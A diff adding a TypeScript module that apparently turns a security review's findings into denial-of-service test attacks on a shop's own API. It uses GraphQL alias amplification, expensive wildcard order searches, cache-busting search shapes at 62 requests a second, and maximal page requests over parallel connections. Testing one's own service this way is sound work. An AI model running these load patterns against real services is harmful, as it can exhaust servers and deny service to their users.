@@ -1,0 +1,97 @@
+import type { Arm, Attack } from './attack.ts';
+import { query, signed } from './attack.ts';
+
+/** Conditions that fit together in any number: the bits of a place choose. */
+const conditions = [
+  'name_cont=a',
+  'id_gt=0',
+  'permalink_cont=b',
+  'description_cont=c',
+  'name_start=d',
+  'id_lt=99999',
+  'name_not_eq=e',
+  'permalink_not_eq=f',
+  'created_at_gt=2001-01-01',
+  'updated_at_gt=2001-01-02',
+];
+
+const shapeOf = (place: number): string =>
+  conditions
+    .filter((_, bit) => (((place % 1_023) + 1) >> bit) % 2 === 1)
+    .map((condition) => `q[${condition.replace('=', ']=')}`)
+    .join('&');
+
+const aliases = (count: number, field: string): string =>
+  `{ ${Array.from({ length: count }, (_, place) => `a${String(place)}: ${field}`).join(' ')} }`;
+
+const wildcards = '%ab'.repeat(33);
+const miss = `${'ab'.repeat(49)}c`;
+const order = `id number state email specialInstructions total createdAt
+  lineItems { id quantity price variant { id sku name } } payments { id state }`;
+
+/** The patterns of the finding; the longest and most that are allowed; the same with wildcards. */
+const patterns = [
+  aliases(
+    15,
+    `myOrders(filter: { specialInstructions: { matches: "${wildcards}" } }) { totalCount }`,
+  ),
+  aliases(
+    15,
+    `myOrders(filter: { and: [${`{ specialInstructions: { cont: "${miss}" } },`.repeat(10)}] }) { totalCount }`,
+  ),
+  aliases(1, `myOrders(filter: { specialInstructions: { cont: "${miss}" } }) { totalCount }`),
+  aliases(1, 'myOrders(filter: { email: { matches: "%a%b%c%d" } }) { totalCount }'),
+];
+
+/** How many times how many orders: the finding's, and what one query may ask for. */
+const shapes = [
+  [15, 300],
+  [1, 300],
+  [15, 10],
+  [1, 100],
+] as const;
+
+const get = (arm: Arm, path: string): Promise<unknown> =>
+  arm.ask('GET', path, { headers: signed(arm) });
+
+/** What safety.md found an ordinary customer's key to do by reading. */
+export const attacksOfReaders: readonly Attack[] = [
+  {
+    finding: '9',
+    does: '8 connections search long texts by patterns, up to 15 times in a query',
+    carts: 300,
+    strike: (arm) => arm.crowd(8, (place) => query(arm, patterns[place % patterns.length] ?? '')),
+  },
+  {
+    finding: '11',
+    does: '2 connections ask for 15 times 300 orders in a query, or as many as one may',
+    carts: 300,
+    strike: (arm) =>
+      arm.crowd(2, (place) => {
+        const [many, perPage] = shapes[place % shapes.length] ?? [1, 1];
+        const page = `myOrders(perPage: ${String(perPage)}) { nodes { ${order} } }`;
+        return query(arm, aliases(many, page));
+      }),
+  },
+  {
+    finding: '13',
+    does: 'searches of different shape, 62 a second',
+    strike: (arm) =>
+      arm.pace(62, (place) => get(arm, `/api/products?per_page=5&${shapeOf(place)}`)),
+  },
+  {
+    finding: '14',
+    does: '8 connections ask for the longest lists without a pause',
+    carts: 300,
+    strike: (arm) =>
+      arm.crowd(
+        8,
+        (place) =>
+          [
+            () => get(arm, '/api/variants?per_page=500'),
+            () => get(arm, '/api/orders/mine?per_page=300'),
+            () => query(arm, `{ myOrders(perPage: 100) { nodes { ${order} } } }`),
+          ][place % 3]?.() ?? Promise.resolve(),
+      ),
+  },
+];
